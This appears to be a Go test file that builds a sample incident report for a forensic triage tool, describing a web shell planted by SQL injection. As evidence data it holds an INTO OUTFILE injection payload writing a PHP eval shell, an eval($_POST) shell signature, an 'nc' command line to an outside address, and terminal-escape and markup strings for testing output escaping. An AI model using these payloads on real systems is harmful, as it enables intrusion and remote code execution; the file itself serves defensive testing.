package report_test

import (
	"strings"
	"time"

	"spoor/cases"
	"spoor/cases/report"
	"spoor/cases/seal"
	"spoor/triage"
	"spoor/triage/outcome"
)

var day = time.Date(2026, 3, 8, 0, 0, 0, 0, time.UTC)

func clock(hour, min, sec int) time.Time {
	return day.Add(time.Duration(hour)*time.Hour + time.Duration(min)*time.Minute + time.Duration(sec)*time.Second)
}

const (
	logSHA  = "3f9a12c0ffee3f9a12c0ffee3f9a12c0ffee3f9a12c0ffee3f9a12c0ffee3f9a"
	listSHA = "77aa01c0ffee77aa01c0ffee77aa01c0ffee77aa01c0ffee77aa01c0ffee77aa"
	badSHA  = "bad0c0ffeebad0c0ffeebad0c0ffeebad0c0ffeebad0c0ffeebad0c0ffeebad0"
)

func sentence(text string, refs ...string) report.Statement {
	return report.Statement{Text: text, Refs: refs}
}

// sample is a small incident, with the odd hostile text where evidence speaks.
func sample() *report.Report {
	who := cases.Who{Analyst: "Ann Okoro", Host: "jump-1"}
	plant := `198.51.100.9 - - [08/Mar/2026:03:12:44 +0000] "GET /shop/item.php?id=1+union+select+'<?php+@eval(` + "`id`" + `);'+into+outfile+'/var/www/img/up.php' HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	r := &report.Report{
		Case: cases.Info{Version: 1, ID: "00c0ffee00c0ffee", Name: "Shop | March", TLP: "AMBER", Analyst: who.Analyst, Sector: "retail",
			Objective: "the shop's customers", Created: clock(34, 0, 0),
			RequestedBy: "A. Bianchi, counsel of Shop <b>", Authority: "engagement letter of 2026-03-08", Systems: "web-1 and its logs"},
		GeneratedAt: clock(36, 0, 0), GeneratedBy: who, Version: "0.1",
		Summary: []report.Statement{
			sentence("A web shell, /img/up.php, was planted on 2026-03-08 at 03:12:44 by one SQL injection from 198.51.100.9.", "r:3f9a12.4", "w:0a1b2c3d"),
			sentence("Two intruders used it afterwards, the second from 203.0.113.77 nine hours later.", "r:3f9a12.5", "r:3f9a12.9"),
			sentence("Who they are: not enough to tell.", "a:11111111", "a:22222222"),
		},
		Scope: report.Scope{First: clock(0, 0, 1), Last: clock(23, 59, 58), Zone: "UTC", Requests: 9120, Clients: 314,
			Statements: []report.Statement{sentence("The front proxy's logs were asked for and had been rotated away.")}},
		Evidence: sampleEvidence(who),
		Method: []report.Statement{
			sentence("Each line was read once, decoded in layers and judged by rules; shells and chains were judged by behaviour over all requests."),
			sentence("Nothing was executed, fetched or looked up on the network."),
		},
		Limits: []report.Statement{
			sentence("An access log holds no request bodies: what was sent by POST is not to be seen."),
			sentence("A client address is not a person; a proxy can stand for many."),
		},
		Timeline: []report.Event{
			{Time: clock(12, 20, 0), Level: triage.High, Kind: "use", Client: "203.0.113.77", Text: "first use by another intruder", Refs: []string{"r:3f9a12.9"}},
			{Time: clock(3, 12, 44), Level: triage.Critical, Kind: "plant", Client: "198.51.100.9", Text: "union select ... into outfile '/var/www/img/up.php'", Refs: []string{"r:3f9a12.4"}, Outcome: outcome.Succeeded},
			{Time: clock(3, 12, 45), Level: triage.None, Kind: "file", Text: "/var/www/img/up.php last modified", Refs: []string{"r:77aa01.2"}},
		},
		Incidents: sampleIncidents(),
		Webshells: sampleShells(),
		Intruders: sampleIntruders(),
		Findings:  sampleFindings(),
		Worked: []outcome.Attack{{Client: "198.51.100.9", Class: triage.SQLi, Path: "/shop/item.php", Field: "query:id", Paths: 1, Outcome: outcome.Succeeded, First: clock(3, 10, 0), Last: clock(3, 12, 44), Requests: 15, Answered: -1,
			Reasons: []triage.Reason{{ID: "values-read", Weight: 4, Text: "2 values can be put together from the answers", Refs: []string{"r:3f9a12.4"}}}}},
		Suspects: []triage.File{{Ref: "f:0a0b0c0d", Path: `/var/www/img/up.php`, Size: 31, ModTime: clock(3, 12, 45), Verdict: triage.Unknown,
			Cites:    []triage.Cite{{Ref: "r:77aa01.2", Source: "webroot.txt", Line: 2}},
			Findings: []triage.Finding{{Rule: "code-input", Class: triage.WebshellUse, Level: triage.Critical, Field: "content", Match: "eval($_POST['x'])", Why: "runs what the request sends as code"}}}},
		DataRead: report.DataRead{
			Sums: []report.Statement{{Text: "2 values read by injection, 1 of them certain."}},
			Reads: []report.Read{{Ref: "d:0a1b2c3d", Client: "198.51.100.7", Point: "/item.php query:id", Technique: "boolean", Expression: "SELECT mail FROM staff | <b> LIMIT 2, 1",
				Came: "text = a***@corp.example (16 characters)", Sure: "certain", Kind: "an e-mail address", First: day, Last: day, Refs: []string{"r:3f9a12.7"}}},
			Sent: []report.Statement{{Text: "5000 bytes to 198.51.100.7 in 9 answers.", Refs: []string{"r:3f9a12.7"}}},
		},
		ProcessesRead: 88, Processes: []report.Process{{
			Process: triage.Process{Ref: "r:77aa01.3", Source: "events.json", Line: 3, Time: clock(12, 40, 2), Host: "web|1", PID: 7, ParentPID: 3, Image: "/bin/sh", CommandLine: "sh -c id;<b>\x1b[31m| nc http://203.0.113.77/",
				User: "www-data", ParentImage: "/usr/sbin/apache2", Request: "r:3f9a12.9", Script: "/img/up.php",
				Findings: []triage.Finding{{Rule: "proc-id-unix", Class: triage.RCE, Level: triage.Medium, Field: "command", Match: "id", Why: "asks who it runs as or who is signed in"}}},
			Techniques: []string{"T1033"}, ByServer: true, Client: "203.0.113.77", GapMS: 338, Sure: true}},
		FileCounts: []report.FileCount{{Verdict: triage.KnownGood, Files: 211}, {Verdict: triage.Unknown, Files: 1}},
		Files: []triage.File{{Ref: "f:0a0b0c0d", Path: `/var/www/img/up.php`, SHA256: badSHA, Size: 31, ModTime: clock(3, 12, 45),
			Verdict: triage.Unknown, Why: "no list has the hash; the baseline lacks the path", Cites: []triage.Cite{{Ref: "r:77aa01.2", Source: "webroot.txt", Line: 2}}}},
		Notes: []cases.Note{{Ref: "n:5e5e5e", Text: "The shell answers with 31 bytes, <b>as does the file</b>.\nSee [[r:3f9a12.5]] and http://intra.example/wiki #shell\n\n1. Ask for the proxy's logs.",
			Tags: []string{"shell"}, Author: who.Analyst, Created: clock(35, 0, 0), Edited: clock(35, 30, 0), Version: 2, On: []cases.Citation{{Ref: "r:3f9a12.5"}}}},
		Verdicts: []cases.Verdict{{Ref: "r:3f9a12.4", Value: cases.Confirmed, Reason: "the file is there", Author: who.Analyst, At: clock(35, 10, 0)}},
		Indicators: []report.Indicator{
			{Kind: "client", Value: "198.51.100.9", Why: "planted the shell", Refs: []string{"r:3f9a12.4"}},
			{Kind: "client", Value: "2001:db8::77", Why: "used the shell", Refs: []string{"r:3f9a12.9"}},
			{Kind: "url", Value: "https://drop.example/x.txt", Why: "named in an injection", Refs: []string{"r:3f9a12.4"}},
			{Kind: "sha256", Value: badSHA, Why: "the shell's file", Refs: []string{"r:77aa01.2"}},
		},
		Gaps:    []report.Statement{sentence("No log covers 2026-03-07 22:00 to 23:59.")},
		Custody: sampleCustody(who),
		Cited: []report.Cited{
			{Citation: cases.Citation{Ref: "r:3f9a12.4", Source: "access.log", Line: 4, SHA256: logSHA, Text: plant}},
			{Citation: cases.Citation{Ref: "r:3f9a12.5", Source: "access.log", Line: 5, SHA256: logSHA, Text: "198.51.100.9 - - \"POST /img/up.php\" 200 31 \"-\" \"\x1b]0;owned\x07\xff\""}},
			{Citation: cases.Citation{Ref: "r:3f9a12.9", Source: "access.log", Line: 9, SHA256: logSHA}, Missing: "access.log is no longer there"},
			{Citation: cases.Citation{Ref: "r:77aa01.2", Source: "webroot.txt", Line: 2, SHA256: listSHA, Text: badSHA + "  /var/www/img/up.php"}},
		},
	}
	r.Advice = report.Advise(r)
	return r
}

func sampleEvidence(who cases.Who) []cases.Evidence {
	return []cases.Evidence{
		{Source: triage.Source{Key: "3f9a12", Path: "access.log", Abs: "/evidence/access.log", SHA256: logSHA, SizeBytes: 2170560, ModTime: clock(24, 0, 0), Format: "combined", Zone: "UTC"},
			Role: cases.RoleLog, TakenBy: who.Analyst, TakenAtHost: who.Host, TakenAt: clock(34, 1, 0), Read: 9122, Parsed: 9120, Rejected: 2, First: clock(0, 0, 1), Last: clock(23, 59, 58),
			Rejects:   []triage.Reject{{Line: 17, Reason: "no closing quote", Text: "GET /`|<script>\x1b[2J"}, {Line: 9122, Reason: "the line is cut off", Text: "203.0.113"}},
			Truncated: "unexpected end of the gzip stream"},
		{Source: triage.Source{Key: "77aa01", Path: "webroot.txt", Abs: "/evidence/webroot.txt", SHA256: listSHA, SizeBytes: 20480, ModTime: clock(33, 0, 0), Format: "sha256sum", Zone: "UTC"},
			Role: cases.RoleListing, TakenAt: clock(34, 2, 0), Read: 212, Parsed: 212},
	}
}

func sampleIncidents() []triage.Incident {
	return []triage.Incident{{Ref: "i:9a9a9a9a", First: clock(3, 10, 0), Last: clock(12, 30, 0), Level: triage.Critical, Title: "SQL injection planted /img/up.php, used by 2 clients",
		Summary: []triage.Sentence{{Text: "198.51.100.9 sent 14 requests with payloads before the shell.", Refs: []string{"r:3f9a12.1"}}, {Text: "What was done through it is not known.", Refs: []string{}}},
		Phases:  []triage.Phase{{Kind: "injection", Steps: 1, First: clock(3, 10, 0), Last: clock(3, 12, 0)}},
		Lanes:   []triage.Lane{{Label: "A", Intruder: "a:11111111", Name: "Intruder 1", Clients: []string{"198.51.100.9"}, First: clock(3, 10, 0), Last: clock(3, 13, 2), Kinds: []string{"injection", "plant", "use"}}},
		Gaps:    []triage.Gap{{Kind: "quiet", From: clock(3, 13, 2), To: clock(12, 20, 0), Text: "quiet for 9h 6m"}, {Kind: "evidence", Text: "no request bodies"}},
		Mapped:  []triage.Technique{{ID: "T1190", Name: "Exploit Public-Facing Application", Why: "injections", Source: "https://attack.mitre.org/techniques/T1190/", Refs: []string{"r:3f9a12.1"}}},
		Steps: []triage.Step{
			{Kind: "injection", Lane: "A", Link: "the same client as the plant", Confidence: "seen", Techniques: []string{"T1190"}, End: clock(3, 12, 0), Count: 14, Time: clock(3, 10, 0), Ref: "r:3f9a12.1", Client: "198.51.100.9", Text: "14 injections against /shop/item.php", Refs: []string{"r:3f9a12.2", "r:3f9a12.3"}},
			{Kind: "plant", Time: clock(3, 12, 44), Ref: "r:3f9a12.4", Client: "198.51.100.9", Text: "wrote /var/www/img/up.php with INTO OUTFILE", Refs: []string{"r:3f9a12.4"}},
			{Kind: "use", Time: clock(3, 13, 2), Ref: "r:3f9a12.5", Client: "198.51.100.9", Text: "POST to the shell, answered 200"},
			{Kind: "file", Time: clock(3, 12, 45), Ref: "r:77aa01.2", Text: "the listing has the file, modified then"},
		}, Clients: []string{"198.51.100.9", "203.0.113.77"}, Shells: []string{"/img/up.php"}, Techniques: []string{"T1190", "T1505.003"}}}
}

func sampleShells() []triage.Webshell {
	return []triage.Webshell{
		{Ref: "w:0a1b2c3d", Path: "/img/up.php", Score: 97, Clients: []string{"198.51.100.9", "203.0.113.77"}, First: clock(3, 13, 2), Last: clock(12, 30, 0), Requests: 41, Outcome: "succeeded",
			Reasons: []triage.Reason{
				{ID: "planted", Weight: 40, Text: "an injection wrote a file of this name 18 s before its first request", Refs: []string{"r:3f9a12.4"}},
				{ID: "post", Weight: 20, Text: "41 of 41 answered requests are POST, and nothing links to it", Refs: []string{"r:3f9a12.5", "r:3f9a12.6", "r:3f9a12.7", "r:3f9a12.8", "r:3f9a12.9", "r:3f9a12.10", "r:3f9a12.11"}},
				{ID: "cached", Weight: -5, Text: "one answer is as long as an error page"},
			},
			PlantedBy: &triage.Cite{Ref: "r:3f9a12.4", Source: "access.log", Line: 4}, PlantWhy: "INTO OUTFILE names the path",
			File: &triage.File{Ref: "f:0a0b0c0d", Path: "/var/www/img/up.php", SHA256: badSHA, Size: 31, ModTime: clock(3, 12, 45), Verdict: triage.Unknown}},
		{Ref: "w:0badf00d", Path: "/a|b`c<i>.php", Score: 52, Clients: []string{"203.0.113.77"}, First: clock(12, 40, 0), Last: clock(12, 40, 0), Requests: 1},
	}
}

func sampleIntruders() []report.Intruder {
	return []report.Intruder{
		{Fared: map[string]int{"succeeded": 1, "failed": 2}, Intruder: triage.Intruder{Ref: "a:11111111", Name: "Intruder 1", Clients: []string{"198.51.100.9"}, Agents: []string{"Mozilla/5.0"}, First: clock(3, 10, 0), Last: clock(4, 0, 0),
			Requests: 60, Hostile: 55, Shells: []string{"/img/up.php"},
			Observed: []triage.Observable{{ID: "T1505.003", Why: "planted and used a web shell", Refs: []string{"r:3f9a12.4"}}}},
			Attribution: report.Attribution{Verdict: "unattributed; consistent with 2 groups", Matrix: &report.Matrix{
				Columns: []report.MatrixColumn{{ID: "G0009", Name: "Deep <Panda>", Consistent: 1}, {ID: "unknown", Name: "an unknown actor", Inconsistent: 1}},
				Rows:    []report.MatrixRow{{Text: "S0020 China Chopper | x", Grade: "B2", Diagnosticity: 0.5, Tells: "some", Cells: []string{"consistent", "inconsistent"}, Without: "no change", Refs: []string{"r:3f9a12.7"}}}},
				Likelihood: "roughly even chance", Confidence: "low",
				Why: []report.Statement{sentence("Everything seen is done by many: a name needs two independent kinds of evidence.", "r:3f9a12.4")},
				Consistent: []report.Hypothesis{
					{ID: "G9001", Name: "Example Fox", For: []report.Statement{sentence("is known to plant PHP shells by SQL injection", "r:3f9a12.4")},
						Against: []report.Statement{sentence("is not known to work against retail")}},
					{ID: "G9002", Name: "Example Heron", For: []report.Statement{sentence("is known to plant web shells", "r:3f9a12.4")}},
				},
				Alternatives: []report.Statement{sentence("an actor nobody has written about"), sentence("somebody who copies a known group")}}},
		{Intruder: triage.Intruder{Ref: "a:22222222", Name: "Intruder 2", Clients: []string{"203.0.113.77"}, First: clock(12, 20, 0), Last: clock(12, 40, 0), Requests: 9, Hostile: 9,
			Shells: []string{"/img/up.php"}, Links: []triage.Reason{{ID: "agent", Text: "one agent, no other client has it", Refs: []string{"r:3f9a12.9"}}}}},
	}
}

func sampleFindings() []report.ClassFindings {
	return []report.ClassFindings{{Class: triage.SQLi, Requests: 15, Answered: 6, Fared: map[string]int{"succeeded": 1, "failed": 2}, Clients: 1, Highest: triage.Critical, First: clock(3, 10, 0), Last: clock(3, 12, 44),
		Samples: []report.Sample{{Ref: "r:3f9a12.4", Time: clock(3, 12, 44), Client: "198.51.100.9", Method: "GET",
			Target: "/shop/item.php?id=1+union+select+'<?php+@eval(`id`);'+into+outfile+'/var/www/img/up.php'", Status: 200,
			Rule: "sqli-outfile", Match: "union select '<?php @eval(`id`);' into outfile || [x](https://drop.example/)", Why: "writes a file by way of the database"}}}}
}

func sampleCustody(who cases.Who) report.Custody {
	return report.Custody{Records: 12, Seals: []cases.Seal{{Number: 1, Records: 9, Head: strings.Repeat("cd", 32), At: time.Date(2025, 3, 20, 10, 0, 0, 0, time.UTC), By: who,
		Key: seal.Key{Kind: seal.SSH, Name: "ed25519 SHA256:s0KEgmMitCGKV0BwdjXvckJA4ubg"}}},
		Head: strings.Repeat("ab", 32), Warnings: []string{"journal.jsonl:9: the last record was torn by a crash"},
		Runs: []cases.Run{{Version: "0.1", Args: []string{"spoor", "load", "shop", "access.log.gz"}, RuleSet: strings.Repeat("cd", 32), KnowledgeBase: "ATT&CK v17.1", Zone: "UTC",
			Read: 9334, Parsed: 9332, Rejected: 2, Started: clock(34, 1, 0), Ended: clock(34, 1, 9), Who: who, Refused: []cases.Refused{{Path: "holiday.jpg", Reason: "is no log: binary"}}}}}
}
